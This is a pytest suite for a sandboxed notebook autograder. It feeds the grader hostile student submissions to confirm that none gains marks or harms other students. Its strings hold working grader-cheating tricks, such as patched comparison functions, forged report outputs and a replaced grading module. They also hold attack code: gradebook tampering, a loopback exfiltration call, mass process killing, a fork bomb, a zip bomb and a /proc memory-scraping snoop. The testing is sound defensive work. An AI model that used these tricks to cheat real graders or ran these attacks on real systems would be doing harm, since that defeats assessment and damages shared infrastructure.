"""Hostile submissions, written here so that none reaches a real gradebook, graded in one batch
of the fixture course with `course_kit.instructor.grade` (sandboxed, judged):

* tricks inside the kernel (custom exception handler, input transformer wrapping every later
  cell in try/except, patched comparisons, forged reports, a replaced course_lib.grading):
  none gains a point over the same answers without the trick;
* attacks on the grader (write another student's copy or the gradebook, read solutions/, open
  a socket, allocate 3 GiB, print 50 MB, kill its parent and every process it can, a bounded
  fork bomb): none harms another student, and every student gets a row and a feedback page;
* honest work with broken nbgrader cells (a duplicated test cell, renamed ids, code pasted
  into a new notebook) still gets its marks, with the repair named in the notes.
"""

from __future__ import annotations

import csv
import hashlib
import socket
import threading

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from course_kit import instructor, sandbox
from course_kit.fixture_course import ANSWERS, make_course, make_submission

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(
        sandbox.sandbox_problem() is not None,
        reason=f"bubblewrap cannot be used here: {sandbox.sandbox_problem()}",
    ),
]

STUB_SQUARES = "def sum_of_squares(values):\n    return 0.0\n"  # right only for []
SHAPE_ONLY = "def normalise(values):\n    return np.zeros(len(values))\n"  # the right shape

EXCEPTHOOK = (
    """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda self, etype, value, tb, tb_offset=None: None)
"""
    + STUB_SQUARES
)

TRANSFORMER = (
    """
def _wrap(lines):
    body = "".join("    " + line for line in lines) or "    pass\\n"
    return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_wrap)
"""
    + STUB_SQUARES
)

PATCHED = (
    """
import builtins, math, numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: numpy.True_
numpy.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
builtins.abs = lambda x: 0.0
"""
    + STUB_SQUARES
)

# reports forged after every cell (they land in the test cells' outputs), with the visible
# values the student knows and guesses for the hidden ones
FORGED = (
    """
from IPython.display import display
MIME = "application/vnd.course-kit.report+json"
GUESS = {
    "squares-1-2": {"float": 5.0}, "squares-empty": {"float": 0.0},
    "squares-arange": {"float": 300.0},
    "normalise-3-4": {"array": [0.6, 0.8], "nonfinite": [False, False], "dtype": "float64",
                      "shape": [2]},
    "normalise-hidden": {"array": [0.5, -0.5, 0.5], "nonfinite": [False] * 3,
                         "dtype": "float64", "shape": [3]},
    "normalise-negative": {"array": [-0.6, 0.0, 0.8], "nonfinite": [False] * 3,
                           "dtype": "float64", "shape": [3]},
}
def _forge(result):
    for key, value in GUESS.items():
        display({MIME: {"key": key, "value": value, "judging": {"rtol": 1e9}},
                 "text/plain": ""}, raw=True)
    display({MIME: {"key": "normalise-zeros", "raised": "ValueError", "message": ""},
             "text/plain": ""}, raw=True)
get_ipython().events.register("post_run_cell", _forge)
"""
    + STUB_SQUARES
)

# course_lib.grading replaced: report() sends the guesses instead of calling the student's code
REPLACED = (
    FORGED.replace('get_ipython().events.register("post_run_cell", _forge)', "")
    + """
import course_lib.grading as g, sys, types
def report(key, compute, **judging):
    value = GUESS.get(key, {"float": 0.0})
    display({MIME: {"key": key, "value": value, "judging": {}}, "text/plain": ""}, raw=True)
g.report = report
g.check_close = lambda *a, **k: None
g.check_implemented = lambda f, *a, **k: None
fake = types.ModuleType("course_lib.grading")
fake.__dict__.update(g.__dict__)
sys.modules["course_lib.grading"] = fake
"""
)

KERNEL_TRICKS = {
    "excepthook": EXCEPTHOOK,
    "transformer": TRANSFORMER,
    "patched": PATCHED,
    "forged": FORGED,
    "replaced": REPLACED,
}


def vandal(root, port):
    """Everything a submission could try against the grader and the other students."""
    return (
        f"""
import os, socket, sqlite3
ROOT = {str(root)!r}
def attempt(name, fn):
    try:
        fn(); print(name, "SUCCEEDED")
    except BaseException as err:
        print(name, "failed:", type(err).__name__)
def overwrite_alice():
    with open(ROOT + "/grading/submitted/alice/demo/demo.ipynb", "w") as fh:
        fh.write("{{}}")
def write_gradebook():
    con = sqlite3.connect(ROOT + "/grading/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 99")
    con.commit()
def read_solutions():
    print(open(ROOT + "/solutions/demo/demo.ipynb").read()[:50])
def phone_home():
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"STOLEN")
def own_gradebook():  # the sandbox's own copy: allowed, and worthless
    con = sqlite3.connect("/course/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
    con.commit()
for name, fn in [("overwrite-alice", overwrite_alice), ("write-gradebook", write_gradebook),
                 ("read-solutions", read_solutions), ("socket", phone_home),
                 ("own-gradebook", own_gradebook)]:
    attempt(name, fn)
"""
        + STUB_SQUARES
    )


MEMORY = """
import numpy as np
try:
    big = np.ones(3 * 2**30, dtype=np.uint8)
    print("ALLOCATED", big.nbytes)
except MemoryError:
    print("3 GiB: MemoryError")
"""

PRINTER = "print('y' * 50_000_000)\n"

KILLER = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

FORK_BOMB = """
import os, time
children = []
try:
    for _ in range(2000):  # bounded
        pid = os.fork()
        if pid == 0:
            time.sleep(2)
            os._exit(0)
        children.append(pid)
    print("FORKED ALL", len(children))
except OSError as err:
    print("FORK STOPPED AFTER", len(children), type(err).__name__)
for pid in children:
    os.waitpid(pid, 0)
"""

GOOD = ANSWERS["correct"]


def with_answers(released, squares, normalise=None):
    nb = make_submission(released, "untouched")
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid == "squares":
            cell.source = squares
        if gid == "normalise" and normalise is not None:
            cell.source = normalise
    return nb


class Listener:
    """A loopback TCP server that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.stop = False
        self.thread = threading.Thread(target=self.run, daemon=True)
        self.thread.start()

    def run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root = make_course(tmp)
    [released] = instructor.release(root)
    listener = Listener()
    subs = tmp / "subs"
    notebooks = {
        # honest references: what the tricks must not beat
        "alice": with_answers(released, GOOD["squares"], GOOD["normalise"]),
        "shapeonly": with_answers(released, STUB_SQUARES, SHAPE_ONLY),
        **{k: with_answers(released, v, SHAPE_ONLY) for k, v in KERNEL_TRICKS.items()},
        "vandal": with_answers(released, vandal(root, listener.port), SHAPE_ONLY),
        "memory": with_answers(released, MEMORY + GOOD["squares"], GOOD["normalise"]),
        "printer": with_answers(released, PRINTER + GOOD["squares"], GOOD["normalise"]),
        "killer": with_answers(released, KILLER + GOOD["squares"], GOOD["normalise"]),
        "forkbomb": with_answers(released, FORK_BOMB + GOOD["squares"], GOOD["normalise"]),
        "zed": with_answers(released, GOOD["squares"], GOOD["normalise"]),  # graded after all
    }
    dup = make_submission(released, "correct")
    dup.cells.insert(4, nbformat.from_dict(dup.cells[3]))
    notebooks["duplicated"] = dup
    renamed = make_submission(released, "correct")
    for cell in renamed.cells:
        cell.metadata["nbgrader"]["grade_id"] += "-mine"
    notebooks["renamed"] = renamed
    notebooks["pasted"] = new_notebook(
        cells=[
            new_code_cell("import numpy as np"),
            new_code_cell(GOOD["squares"]),
            new_code_cell(GOOD["normalise"]),
        ]
    )
    for student, nb in notebooks.items():
        (subs / student).mkdir(parents=True)
        nbformat.write(nb, subs / student / "demo.ipynb")
    # alice is graded first (alone) so that the vandal has her copy and her grades to attack
    (tmp / "first" / "alice").mkdir(parents=True)
    nbformat.write(notebooks["alice"], tmp / "first" / "alice" / "demo.ipynb")
    instructor.grade("demo", tmp / "first", root=root, timeout=20)
    alice_copy = root / "grading" / "submitted" / "alice" / "demo" / "demo.ipynb"
    before = digest(alice_copy)
    rows = instructor.grade("demo", subs, root=root, timeout=20)
    listener.stop = True
    return root, {r.student: r for r in rows}, before, digest(alice_copy), listener


def page(root, row):
    return (root / row.feedback).read_text()


def printed(root, student):
    """What the student's cells printed, from the executed notebook (not the page, whose
    source listing also holds the strings the code prints)."""
    path = root / "grading" / "autograded" / student / "demo" / "demo.ipynb"
    nb = nbformat.read(path, 4)
    return "".join(
        o.get("text", "") for c in nb.cells if c.cell_type == "code" for o in c.get("outputs", [])
    )


def test_every_student_gets_a_row_and_a_feedback_page(batch):
    root, rows, *_ = batch
    assert len(rows) == 16
    for student, row in rows.items():
        assert (root / row.feedback).is_file(), student
    with open(root / "grading" / "grades_demo.csv") as fh:
        assert sorted(r["student"] for r in csv.DictReader(fh)) == sorted(rows)


@pytest.mark.parametrize("trick", sorted(KERNEL_TRICKS))
def test_kernel_tricks_gain_nothing(batch, trick):
    _, rows, *_ = batch
    honest = rows["shapeonly"].score
    assert rows[trick].score == honest == 0, (trick, rows[trick])


def test_a_vandal_harms_no_one(batch):
    root, rows, before, after, listener = batch
    assert before == after  # alice's submitted copy is untouched
    assert rows["alice"].score == 6 and rows["zed"].score == 6
    assert rows["vandal"].score == 0  # not even with its own sandbox gradebook at 99
    text = printed(root, "vandal")
    for attack in ("overwrite-alice", "write-gradebook", "read-solutions", "socket"):
        assert f"{attack} failed" in text, attack
    assert "own-gradebook failed" in text  # no gradebook in the kernel's sandbox (issue 24.2)
    assert listener.received == []
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'grading' / 'gradebook.db'}") as gb:
        for student in rows:
            sub = gb.find_submission("demo", student)
            assert all(g.manual_score is None for nb in sub.notebooks for g in nb.grades)


def test_resource_attacks_stay_in_their_sandbox(batch):
    root, rows, *_ = batch
    memory = printed(root, "memory")
    assert "ALLOCATED" not in memory and rows["memory"].score == 6
    assert "3 GiB: MemoryError" in memory
    assert rows["printer"].score == 6
    assert (root / rows["printer"].feedback).stat().st_size < 1_500_000
    # its kills reach nothing outside its sandbox (nbgrader runs outside it, issue 24.2): as
    # root, killing the sandbox's init fails (another user) and the answer cell stops there
    assert rows["killer"].status == "graded" and rows["killer"].score >= 4
    bomb = printed(root, "forkbomb")
    assert "FORK STOPPED AFTER" in bomb and "FORKED ALL" not in bomb
    assert rows["forkbomb"].score == 6
    assert "yyyyyyyyyy" in printed(root, "printer")  # printed, then capped


def test_honest_work_with_broken_cells_gets_its_marks(batch):
    _, rows, *_ = batch
    for student in ("duplicated", "renamed", "pasted"):
        assert rows[student].score == 6, rows[student]
    assert any("same nbgrader id" in n for n in rows["duplicated"].notes)
    assert any("answer 'squares'" in n for n in rows["renamed"].notes)
    assert any("no nbgrader cells" in n for n in rows["pasted"].notes)


# --------------------------------------------------------------------------------------------
# Student HTML and JavaScript (issue 24.3): markdown cells and outputs with scripts, event
# handlers, javascript: links, frames, forms, <meta refresh>, <base>, styles that hide or
# cover the verdict, SVG with scripts, widget views and an <img width> injection. After a real
# grade nothing of it is active in the autograded notebook the Formgrader renders nor in the
# feedback page (whose only scripts are its MathJax, by the hashes of its CSP), and grading is
# not disturbed: the hostile notebook scores what the same answers score without the HTML.
# (The browser sees the same in tests/test_kit_browser.py.)


@pytest.fixture(scope="module")
def html_batch(tmp_path_factory):
    from hostile_content import OUTPUT_CELL, markdown_cells, outputs
    from nbformat.v4 import new_markdown_cell

    tmp = tmp_path_factory.mktemp("hostile-html")
    root = make_course(tmp)
    [released] = instructor.release(root)
    honest = make_submission(released, "partial")
    hostile = make_submission(released, "partial")
    forged = new_code_cell("print('outputs of the submitted file are replaced when it runs')")
    forged.outputs = outputs()  # as submitted: nbgrader clears them before running the cells
    math = new_markdown_cell("The loss: $E_l = \\frac{1}{4N^2M^2}$, and `a < b`.")
    hostile.cells[1:1] = [math, *markdown_cells(), new_code_cell(OUTPUT_CELL), forged]
    for student, nb in (("honest", honest), ("mallory", hostile)):
        (tmp / "subs" / student).mkdir(parents=True)
        nbformat.write(nb, tmp / "subs" / student / "demo.ipynb")
    rows = instructor.grade("demo", tmp / "subs", root=root, timeout=20)
    return root, {r.student: r for r in rows}


def test_student_html_is_inert_in_the_formgrader_and_the_feedback(html_batch):
    import re

    from hostile_content import active_content, render

    root, rows = html_batch
    assert rows["mallory"].score == rows["honest"].score > 0  # the judge still reads reports
    path = root / "grading" / "autograded" / "mallory" / "demo" / "demo.ipynb"
    autograded = nbformat.read(path, 4)
    # as the Formgrader renders it: nothing but the Formgrader's own scripts
    baseline = active_content(render(new_notebook(), "formgrade"))
    assert sorted(active_content(render(autograded, "formgrade"))) == sorted(baseline)
    mimes = {m for c in autograded.cells for o in c.get("outputs", []) for m in o.get("data", {})}
    assert not {"application/javascript", "application/vnd.jupyter.widget-view+json"} & mimes
    page = (root / rows["mallory"].feedback).read_text()
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert policy and "'unsafe-inline'" not in policy[1].split("script-src")[1].split(";")[0]
    allowed = set(re.findall(r"'(sha256-[^']+)'", policy[1]))
    assert active_content(page, allowed_hashes=allowed) == []
    assert "<b>bold is kept</b>" in page and "$E_l = \\frac{1}{4N^2M^2}$" in page
    # the same notebook as the sandbox executed it is not inert (the checks can fail)
    executed = root / "grading" / "executed" / "mallory" / "demo" / "demo.ipynb"
    found = "\n".join(active_content(render(nbformat.read(executed, 4))))
    assert "md-script" in found and "out-html-script" in found and "<iframe>" in found


# =============================================================================================
# The grading pipeline against hostile submissions (issue 24 items 1, 4, 5, 6, 7; issue 25
# item 3): values the judge cannot convert, notebooks it cannot read, names made to collide,
# submitters without a notebook, a hidden-test marker in a comment, a zip bomb; a run killed
# mid-way then rerun; the gradebook switched between runs.
# =============================================================================================

import io  # noqa: E402
import zipfile  # noqa: E402

from course_kit import judge  # noqa: E402

# report() replaced: it sends values the judge cannot convert (once: OverflowError, no CSV)
UNCONVERTIBLE = """
import course_lib.grading as g
from IPython.display import display
MIME = "application/vnd.course-kit.report+json"
BAD = [10**400, {"array": [10**30, 1], "dtype": "int64", "shape": [2]},
       {"float": 10**400}, {"sequence": [{"float": 1.0}] * 200_000}]
N = [0]
def report(key, compute, **judging):
    N[0] += 1
    display({MIME: {"key": key, "value": BAD[N[0] % len(BAD)]}, "text/plain": ""}, raw=True)
g.report = report
""" + GOOD["squares"]

# report() replaced: it sends a value nested 800 levels deep (as deep as the kernel's JSON
# writer still goes)
DEEP = """
import course_lib.grading as g
from IPython.display import display
deep = {"float": 1.0}
for _ in range(400):
    deep = {"sequence": [deep]}
def report(key, compute, **judging):
    display({"application/vnd.course-kit.report+json": {"key": key, "value": deep},
             "text/plain": ""}, raw=True)
g.report = report
""" + GOOD["squares"]

MARKER = GOOD["squares"] + "# ### BEGIN HIDDEN TESTS  (a student's note to self)\n"


def _zip_bytes(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _rows_of_csv(root):
    with open(root / "grading" / "grades_demo.csv") as fh:
        return {r["name"]: r for r in csv.DictReader(fh)}


@pytest.fixture(scope="module")
def pipeline_batch(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-pipeline")
    root = make_course(tmp)
    [released] = instructor.release(root)
    subs = tmp / "subs"
    books = {
        "alice": with_answers(released, GOOD["squares"], GOOD["normalise"]),
        "alice ": with_answers(released, STUB_SQUARES),  # a second folder, a trailing blank
        "José": with_answers(released, STUB_SQUARES),
        "Jose-8f72d2": with_answers(released, GOOD["squares"], GOOD["normalise"]),
        "unconvertible": with_answers(released, UNCONVERTIBLE, GOOD["normalise"]),
        "deep": with_answers(released, DEEP, GOOD["normalise"]),
        "marker": with_answers(released, MARKER, GOOD["normalise"]),
    }
    weird = with_answers(released, GOOD["squares"], GOOD["normalise"])
    weird.cells[2].metadata["nbgrader"]["grade_id"] = ["not", "a", "string"]
    books["weirdmeta"] = weird
    for name, nb in books.items():
        (subs / name).mkdir(parents=True)
        nbformat.write(nb, subs / name / "demo.ipynb")
    for name in ("pyonly", "empty", "linked", "bomber"):
        (subs / name).mkdir()
    (subs / "pyonly" / "answer.py").write_text(GOOD["squares"])
    (subs / "linked" / "demo.ipynb").symlink_to(subs / "alice" / "demo.ipynb")
    zeros = _zip_bytes({"demo.ipynb": b"\0" * 40 * 2**20})  # 40 MB in ~40 KB
    (subs / "bomber" / "work.zip").write_bytes(_zip_bytes({f"{i}.zip": zeros for i in range(40)}))
    rows = instructor.grade("demo", subs, root=root, timeout=20)
    return root, {r.name: r for r in rows}


def test_pipeline_every_hostile_submitter_gets_a_row_and_a_page(pipeline_batch):
    root, rows = pipeline_batch
    names = {"alice", "alice ", "José", "Jose-8f72d2", "unconvertible", "deep", "marker"}
    names |= {"weirdmeta", "pyonly", "empty", "linked", "bomber"}
    assert set(rows) == names
    assert len({r.student for r in rows.values()}) == len(names)  # 24.4: one id each
    assert set(_rows_of_csv(root)) == names
    for name, row in rows.items():
        assert (root / row.feedback).is_file() and (root / row.feedback).stat().st_size, name


def test_pipeline_values_the_judge_cannot_convert_score_zero(pipeline_batch):
    """24.1: an unconvertible report, a notebook too deep to read, metadata of the wrong type:
    each is one row, and the others are graded."""
    root, rows = pipeline_batch
    assert rows["alice"].score == 6 and rows["Jose-8f72d2"].score == 6
    assert rows["unconvertible"].score == 0 and rows["unconvertible"].status == "graded"
    assert "cannot be judged" in (root / rows["unconvertible"].feedback).read_text()
    assert rows["deep"].score == 0
    assert rows["weirdmeta"].score == 6 and rows["weirdmeta"].status == "graded"
    assert rows["alice "].score == 0 and rows["José"].score == 0


def test_pipeline_submitters_without_a_notebook_say_what_was_found(pipeline_batch):
    """24.5 and 24.7."""
    root, rows = pipeline_batch
    assert "answer.py" in rows["pyonly"].status
    assert "nothing was submitted" in rows["empty"].status
    assert "symbolic link" in rows["linked"].status
    bomber = " ".join(rows["bomber"].notes)
    assert "zip bomb" in bomber and rows["bomber"].status.startswith("not graded")
    for name in ("pyonly", "empty", "linked", "bomber"):
        assert rows[name].score == 0
        assert "could not be graded" in (root / rows[name].feedback).read_text()


def test_pipeline_a_hidden_test_marker_in_a_comment_still_gets_a_page(pipeline_batch):
    """24.6: nbgrader cannot make this page; the grader makes one, and says so."""
    root, rows = pipeline_batch
    row = rows["marker"]
    assert row.score == 6
    assert any("could not make the feedback page" in n for n in row.notes)
    text = (root / row.feedback).read_text()
    assert "Score: 6 / 6" in text and "all 2 checks of this cell passed" in text
    assert "np.arange" not in text and "HIDDEN TESTS" not in text  # no hidden test leaks


class Killed(BaseException):
    """What a kill looks like to the code it stops: nothing catches it."""


def test_pipeline_crash_rerun_and_switched_gradebook(tmp_path, monkeypatch):
    """24.1: a run killed while judging, then rerun, grades as one clean run (the trick
    student, full marks by nbgrader's verdict, must be judged). 25.3: grading into another
    gradebook reuses nothing that gradebook lacks, lists no one it does not hold, and leaves
    the pages of students not graded alone."""
    root = make_course(tmp_path)
    [released] = instructor.release(root)
    subs = tmp_path / "subs"
    for name, nb in {
        "alice": with_answers(released, GOOD["squares"], GOOD["normalise"]),
        "trick": with_answers(released, EXCEPTHOOK, SHAPE_ONLY),
    }.items():
        (subs / name).mkdir(parents=True)
        nbformat.write(nb, subs / name / "demo.ipynb")
    real_write = judge.write_scores

    def killed(*args, **kwargs):
        raise Killed()

    monkeypatch.setattr(judge, "write_scores", killed)
    with pytest.raises(Killed):
        instructor.grade("demo", subs, root=root, timeout=20)
    monkeypatch.setattr(judge, "write_scores", real_write)
    rows = {r.student: r.score for r in instructor.grade("demo", subs, root=root, timeout=20)}
    assert rows == {"alice": 6, "trick": 0}  # as a clean run grades them

    trick_page = root / "grading" / "feedback" / "trick" / "demo" / "demo.html"
    before = trick_page.read_bytes()
    other = f"sqlite:///{root / 'grading' / 'other.db'}"
    (tmp_path / "only" / "alice").mkdir(parents=True)
    nbformat.write(
        nbformat.read(subs / "alice" / "demo.ipynb", 4), tmp_path / "only" / "alice" / "demo.ipynb"
    )
    rows = instructor.grade("demo", tmp_path / "only", root=root, timeout=20, db_url=other)
    assert [(r.student, r.score, r.status) for r in rows] == [("alice", 6, "graded")]
    assert set(_rows_of_csv(root)) == {"alice"}  # trick is not in other.db: not listed as 0
    assert trick_page.read_bytes() == before  # its page was not emptied
    from nbgrader.api import Gradebook

    with Gradebook(other) as gb:
        assert gb.find_submission("demo", "alice").score == 6
    # back to the first gradebook: trick is kept (still there), alice graded again into it
    rows = {r.student: r for r in instructor.grade("demo", subs, root=root, timeout=20)}
    assert {s: r.score for s, r in rows.items()} == {"alice": 6, "trick": 0}


# ------------------------------------------------------------- issue 24.2 and 24.8: the sandbox
# Nothing with the hidden tests is reachable from the kernel (no gradebook, no notebook, no
# process holding them), and a submission's processes share one memory cap, one capped disk and
# one time limit, however many processes, files or cells it makes.

# The patterns are assembled at run time so that this cell's own source (which the kernel may
# cache in a file) does not match them.
SNOOP = (
    """
import json, os, sqlite3, sys
MARKS = [m.encode() for m in ("BEGIN " + "HIDDEN TESTS", "squares" + "-arange",
                              "normalise" + "-negative", "BEGIN " + "SOLUTION")]
LIBS = tuple(os.path.realpath(p) + "/" for p in {sys.prefix, sys.base_prefix, "/usr", "/etc"})
found, seen = [], {"files": 0, "procs": 0}
def library(path):
    return os.path.realpath(path).startswith(LIBS)
def marked(data):
    return [m.decode() for m in MARKS if m in data]
def try_sqlite(path):
    try:
        con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master")]
        if "source_cell" in tables:  # a gradebook: nbgrader's own test ones hold none of ours
            rows = [r[0] for r in con.execute("SELECT source FROM source_cell")]
            hits = marked("\\n".join(rows).encode())
            if hits or not library(path):
                found.append(("gradebook", path, hits))
        elif tables and not library(path):
            found.append(("database", path, tables))
    except Exception:
        pass
for top, dirs, files in os.walk("/"):
    if top in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    for name in dirs + files:
        path = os.path.join(top, name)
        if name == "solutions" and not library(path):
            found.append(("solutions", path))
    for name in files:
        path = os.path.join(top, name)
        seen["files"] += 1
        if name.endswith((".db", ".sqlite", ".sqlite3")) or name == "gradebook.db":
            try_sqlite(path)
        if name.endswith(".ipynb") and not library(path):
            found.append(("notebook", path))
        if library(path) or not os.path.isfile(path) or os.path.islink(path):
            continue
        try:
            if os.path.getsize(path) < 50 * 2**20:
                with open(path, "rb") as fh:
                    hits = marked(fh.read())
                if hits:
                    found.append(("file", path, hits))
        except OSError:
            pass
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    seen["procs"] += 1
    for part in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        words = [w for w in ("gradebook", "nbgrader", "solutions") if w.encode() in text]
        if words or marked(text):
            found.append((part, pid, words + marked(text)))
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        with open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                span, perms = line.split()[:2]
                start, end = (int(x, 16) for x in span.split("-"))
                if "r" not in perms or end - start > 2**30:
                    continue
                try:
                    mem.seek(start)
                    hits = marked(mem.read(end - start))
                except (OSError, OverflowError, ValueError):
                    continue
                if hits:
                    found.append(("memory", pid, hits))
                    break
    except OSError:
        pass
print("SNOOP SEEN", json.dumps(seen))
print("SNOOP FOUND", json.dumps(found))
"""
    + STUB_SQUARES
)

CHILDREN_800 = """
import os, time
import numpy as np
pids = []
for i in range(5):
    pid = os.fork()
    if pid == 0:
        block = np.ones(800 * 2**20, dtype=np.uint8)  # written: really held
        time.sleep(3)
        os._exit(0)
    pids.append(pid)
held = 0
for pid in pids:
    _, status = os.waitpid(pid, 0)
    held += os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0
print("CHILDREN HELD", held, "OF 5")
"""

FILLER = """
import os
total = 0
for i in range(25):  # 25 x 60 MB, in its working folder and in its temporary folder
    path = f"{'.' if i % 2 else os.environ.get('TMPDIR', '/tmp')}/fill{i}.bin"
    try:
        with open(path, "wb") as fh:
            for _ in range(60):
                fh.write(b"x" * 2**20)
    except OSError as err:
        pass
    total += os.path.getsize(path) if os.path.exists(path) else 0
print("FILLED MB", round(total / 2**20))
for i in range(25):
    for folder in (".", os.environ.get("TMPDIR", "/tmp")):
        if os.path.exists(f"{folder}/fill{i}.bin"):
            os.remove(f"{folder}/fill{i}.bin")
"""

CAPS = {"total_memory_mb": 1500, "disk_mb": 200}


@pytest.fixture(scope="module")
def capped(tmp_path_factory):
    """A batch graded with small caps: the snoop, the memory hog, the disk filler, an honest
    student; then a notebook of very many cells alone, with a short time limit."""
    tmp = tmp_path_factory.mktemp("capped")
    root = make_course(tmp)
    [released] = instructor.release(root)
    notebooks = {
        "snoop": with_answers(released, SNOOP, SHAPE_ONLY),
        "children": with_answers(released, CHILDREN_800 + GOOD["squares"], GOOD["normalise"]),
        "filler": with_answers(released, FILLER + GOOD["squares"], GOOD["normalise"]),
        "honest": with_answers(released, GOOD["squares"], GOOD["normalise"]),
    }
    many = with_answers(released, GOOD["squares"], GOOD["normalise"])
    many.cells += [new_code_cell(f"import time\ntime.sleep(0.05)  # {i}") for i in range(2000)]
    for folder, batch in (("subs", notebooks), ("many", {"manycells": many})):
        for student, nb in batch.items():
            (tmp / folder / student).mkdir(parents=True)
            nbformat.write(nb, tmp / folder / student / "demo.ipynb")
    limits = sandbox.Limits(**CAPS)
    rows = instructor.grade("demo", tmp / "subs", root=root, timeout=120, limits=limits)
    later = instructor.grade(
        "demo", tmp / "many", root=root, timeout=120, limits=sandbox.Limits(wall_s=20)
    )
    rows = {r.student: r for r in rows}
    rows["manycells"] = next(r for r in later if r.student == "manycells")
    return root, rows


def test_no_hidden_test_or_gradebook_is_reachable_from_the_kernel(capped):
    import json

    root, rows, *_ = capped
    text = printed(root, "snoop")
    assert "SNOOP SEEN" in text, text  # it ran to the end
    seen = json.loads(text.split("SNOOP SEEN")[1].splitlines()[0])
    assert seen["files"] > 1000 and seen["procs"] >= 1  # it did look
    found = json.loads(text.split("SNOOP FOUND")[1].splitlines()[0])
    assert found == []
    assert rows["snoop"].score == 0


def test_a_submissions_processes_share_one_memory_cap(capped):
    if sandbox.memory_cap_problem() is not None:
        pytest.skip(f"no cgroup for a total memory cap: {sandbox.memory_cap_problem()}")
    root, rows, *_ = capped
    text = printed(root, "children")
    # 5 x 800 MB is within the per-process limit (3 GB) but not within 1500 MB together
    held = int(text.split("CHILDREN HELD")[1].split()[0])
    assert held <= 1, text
    assert rows["children"].score == 6  # the kernel itself lives on; only the hogs were killed
    assert any("memory cap of 1500 MB" in n for n in rows["children"].notes)


def test_a_submission_cannot_fill_more_disk_than_its_cap(capped):
    root, rows, *_ = capped
    filled = int(printed(root, "filler").split("FILLED MB")[1].split()[0])
    assert 0 < filled <= CAPS["disk_mb"]
    assert rows["filler"].score == 6 and rows["honest"].score == 6


def test_very_many_cells_hit_the_whole_runs_time_limit(capped):
    _, rows = capped
    many_row = rows["manycells"]
    assert many_row.status.startswith("not graded") and many_row.score == 0
    assert "stopped after 20 s" in many_row.status
    # without the cap it would run for 2,000 x 0.05 s and more: the limit is the whole run's
    assert sandbox.Limits().wall_s <= 3600  # the default does not grow with the cells either
